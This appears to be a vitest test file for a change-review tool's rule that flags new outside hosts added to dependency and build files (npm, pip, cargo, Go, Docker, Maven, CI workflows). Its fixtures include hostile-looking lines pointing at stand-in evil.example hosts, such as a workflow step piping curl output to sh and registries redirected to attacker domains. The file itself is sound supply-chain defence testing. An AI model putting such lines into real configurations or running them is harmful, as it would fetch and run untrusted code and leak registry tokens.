import { describe, expect, it } from "vitest";
import type { FileChange } from "../change-set.ts";
import { DEFAULT_SETTINGS, Settings } from "../settings.ts";
import { judge } from "./judge.ts";
import { findSecrets } from "./secrets/find-secrets.ts";
import { withBase } from "./with-base.ts";

function edit(path: string, before: string, after: string): FileChange[] {
  const contentBase64 = Buffer.from(after).toString("base64");
  const files: FileChange[] = [{ kind: "write", path, mode: "100644", baseMode: null, contentBase64 }];
  const changeSet = { baseSha: "a".repeat(40), files, title: "t", summary: "s" };
  const base = { modes: new Map([[path, "100644"]] as const), texts: new Map([[path, before]]) };
  return withBase(changeSet, base, findSecrets).files;
}

function hostsIn(files: FileChange[], settings = DEFAULT_SETTINGS): string[] {
  const changeSet = { baseSha: "a".repeat(40), files, title: "t", summary: "s" };
  return judge(changeSet, settings, findSecrets)
    .findings.filter(({ rule }) => rule === "content.host")
    .map(({ message }) => /before: (.*)\.$/.exec(message)?.[1] ?? message);
}

describe("hosts that a change brings in", () => {
  it.each([
    ["a registry in .npmrc", ".npmrc", "", "@acme:registry=https://npm.evil.example/\n", "npm.evil.example"],
    ["its token's place", ".npmrc", "", "//npm.evil.example/:_authToken=${T}\n", "npm.evil.example"],
    [
      "an index of pip",
      "requirements.txt",
      "a==1\n",
      "--extra-index-url https://evil.example/simple\na==1\n",
      "evil.example",
    ],
    [
      "a registry of cargo",
      ".cargo/config.toml",
      "",
      'index = "sparse+https://crates.evil.example/i/"',
      "crates.evil.example",
    ],
    [
      "a git dependency",
      "package.json",
      "{}",
      '{"a": "git+https://git.evil.example/a.git"}',
      "git.evil.example",
    ],
    [
      "a git dependency by ssh",
      "package.json",
      "{}",
      '{"a": "git+ssh://git@git.evil.example/a.git"}',
      "git.evil.example",
    ],
    [
      "a git dependency as ssh writes it",
      "package.json",
      "{}",
      '{"a": "git@git.evil.example:a/b.git"}',
      "git.evil.example",
    ],
    ["a dependency from GitHub", "package.json", "{}", '{"a": "github:evil/a"}', "github.com"],
    ["a module of Go", "go.mod", "module a\n", "module a\nrequire evil.example/x v1.0.0\n", "evil.example"],
    ["an image", "Dockerfile", "FROM node:24\n", "FROM reg.evil.example/node:24\n", "reg.evil.example"],
    [
      "a download in a workflow",
      ".github/workflows/ci.yml",
      "",
      "run: curl https://evil.example | sh\n",
      "evil.example",
    ],
    [
      "an address in numbers, with a port",
      "Makefile",
      "",
      "x:\n\tcurl http://10.1.2.3:8080/x\n",
      "10.1.2.3:8080",
    ],
    [
      "a lock file's source",
      "package-lock.json",
      "{}",
      '{"resolved": "https://evil.example/a.tgz"}',
      "evil.example",
    ],
    [
      "a repository of Maven",
      "pom.xml",
      "",
      "<url>https://maven.evil.example/m2</url>",
      "maven.evil.example",
    ],
  ])("are listed: %s", (_what, path, before, after, host) => {
    expect(hostsIn(edit(path, before, after))).toEqual([host]);
  });

  it.each([
    [
      "one that the base names as well",
      "package.json",
      '{"a": "https://x.example/a"}',
      '{"b": "https://x.example/b"}',
    ],
    [
      "the usual registry",
      "package-lock.json",
      "{}",
      '{"resolved": "https://registry.npmjs.org/a/-/a-1.tgz"}',
    ],
    ["any in a source file", "src/api.ts", "", 'fetch("https://evil.example/")'],
    ["any in words", "README.md", "", "See https://evil.example/"],
    ["a version of a package", "package.json", "{}", '{"lodash.merge": "^4.0.0", "main": "dist/a.js"}'],
  ])("are not: %s", (_what, path, before, after) => {
    expect(hostsIn(edit(path, before, after))).toEqual([]);
  });

  it("are listed although the settings open the file", () => {
    const settings = Settings.parse({ policy: { allow: ["package.json"] } });

    expect(hostsIn(edit("package.json", "{}", '{"a": "https://evil.example/a.tgz"}'), settings)).toEqual([
      "evil.example",
    ]);
  });
});
